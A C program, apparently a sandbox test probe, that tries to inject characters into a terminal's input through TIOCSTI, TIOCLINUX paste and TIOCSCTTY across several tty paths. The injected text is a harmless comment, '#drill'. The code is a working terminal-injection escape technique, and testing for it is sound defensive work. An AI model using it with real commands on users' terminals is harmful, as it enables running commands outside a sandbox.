/* attack.c - puts characters into the input of a terminal, as if somebody had typed them
 *
 * When the program ends, the shell of its starter reads them and does what they say. Bare, it types one character into
 * the terminal that was made for this. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

static int reached;

static void type_into(const char *what, int fd, unsigned long high)
{
    static const char text[] = "#drill\n";
    size_t count = getenv("DRILL_CONTROL") ? 1 : sizeof(text) - 1;
    int done = 0;

    for (size_t i = 0; i < count; i++)
        done |= syscall(SYS_ioctl, fd, TIOCSTI | high, &text[i]) == 0;
    printf("%s: %s\n", what, done ? "reached" : strerror(errno));
    reached |= done;
}

/* From Linux 6.2 on it can be kept from all who have no rights over the machine, and Debian 13 does. */
static int is_off(void)
{
    char text[2] = "";
    int fd = open("/proc/sys/dev/tty/legacy_tiocsti", O_RDONLY);
    ssize_t count = read(fd, text, 1);

    (void)close(fd);
    return count == 1 && text[0] == '0';
}

int main(void)
{
    static const char *const paths[] = {"/dev/tty",        "/dev/console", "/dev/tty0",       "/dev/tty1",
                                        "/dev/pts/0",      "/dev/pts/1",   "/proc/self/fd/0", "/proc/self/fd/1",
                                        "/proc/self/fd/2", "/dev/stdin",   "/dev/ptmx"};
    unsigned char paste[16] = {2, 0, 3};

    for (int fd = 0; fd < 3; fd++) {
        type_into("stream", fd, 0);
        if (reached)
            return 10;
        type_into("stream, high half of the request", fd, 1UL << 32);
        printf("paste: %s\n", ioctl(fd, TIOCLINUX, paste) == 0 ? "reached" : strerror(errno));
        printf("take: %s\n", ioctl(fd, TIOCSCTTY, 1) == 0 ? "reached" : strerror(errno));
    }
    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        int fd = open(paths[i], O_RDWR | O_NONBLOCK);
        if (fd < 0)
            fd = open(paths[i], O_RDONLY | O_NONBLOCK | O_NOCTTY);
        if (fd < 0) {
            printf("%s: %s\n", paths[i], strerror(errno));
            continue;
        }
        type_into(paths[i], fd, 0);
        (void)close(fd);
    }
    if (!reached && getenv("DRILL_CONTROL") && is_off()) {
        printf("this kernel lets only root type into a terminal (dev.tty.legacy_tiocsti is 0)\n");
        return 77;
    }
    return reached ? 10 : 0;
}
